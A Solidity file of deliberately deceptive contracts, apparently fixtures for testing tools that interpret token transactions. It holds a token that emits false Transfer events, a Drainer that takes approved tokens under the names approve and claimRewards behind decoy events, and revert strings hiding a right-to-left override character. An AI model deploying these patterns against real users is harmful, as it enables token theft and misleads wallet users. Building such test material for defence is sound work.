// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

// Contracts that do something else than their names say, and tokens that lie of themselves.

interface Token {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Calls itself as it likes, and its balances are what it says.
contract LyingToken {
    string public symbol;
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(string memory symbol_, address holder) {
        symbol = symbol_;
        balanceOf[holder] = 1e12;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    /// Reports what never happens.
    function claim() external {
        emit Transfer(address(this), msg.sender, 1e12);
    }

    /// Moves and reports nothing.
    function quiet(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }
}

/// Lets a spender take part of what it may take in the same call, as tokens with `approveAndCall` do.
contract CallingToken {
    string public constant symbol = "CALL";
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    constructor(address holder) {
        balanceOf[holder] = 1e12;
    }

    function approveAndCall(address spender, uint256 allowed, uint256 taken) external {
        allowance[msg.sender][spender] = allowed;
        emit Approval(msg.sender, spender, allowed);
        balanceOf[msg.sender] -= taken;
        balanceOf[spender] += taken;
        emit Transfer(msg.sender, spender, taken);
    }
}

/// Takes what it was once allowed to take, under the names of harmless functions.
contract Drainer {
    Token private immutable _token;
    Noise[] private _noise;

    constructor(Token token) {
        _token = token;
        for (uint256 i = 0; i < 30; i++) _noise.push(new Noise());
    }

    function approve(address to, uint256 amount) external returns (bool) {
        return _token.transferFrom(msg.sender, to, amount);
    }

    /// Thirty others report something first.
    function claimRewards(uint256 amount) external {
        for (uint256 i = 0; i < 30; i++) _noise[i].make(msg.sender);
        _token.transferFrom(msg.sender, address(this), amount);
    }
}

contract Noise {
    event Transfer(address indexed from, address indexed to, uint256 amount);

    function make(address account) external {
        emit Transfer(account, address(this), 1);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 7;
    }
}

contract Refuses {
    error NotToday(uint256 day);

    function words() external pure {
        revert(unicode"Paused\u202e until\n“noon”");
    }

    function own() external pure {
        revert NotToday(1);
    }

    function panic() external pure returns (uint256) {
        uint256 zero = 0;
        return 1 / zero;
    }

    function burn() external pure {
        while (true) {}
    }
}
